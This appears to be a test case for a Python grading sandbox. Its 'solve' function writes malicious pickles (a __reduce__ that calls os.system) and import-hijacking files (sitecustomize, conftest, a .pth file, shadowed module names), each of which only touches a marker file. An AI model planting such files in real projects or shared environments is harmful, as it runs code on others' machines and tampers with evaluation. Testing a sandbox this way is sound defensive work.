"""Leaves pickles, sitecustomize, conftest, .pth and compiled files in its folder for whoever reads or imports there."""
# expect: ok|limit
# score: 0.1
import os
import pickle

import arms


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{arms.MARK}pickle",)


def solve(x, look):
    code = f"import os; os.system('touch /tmp/{arms.MARK}imported')"
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "msgpack.py", "wire.py", "evil.pth", "pickle.py", "numpy.py", "arms.py"):
        with open(name, "w") as file:
            file.write(code)
    for name in ("result.pkl", "outcome", "checkpoint.pkl", "state.npy"):
        with open(name, "wb") as file:
            pickle.dump(Bomb(), file)
    return arms.honest(x)
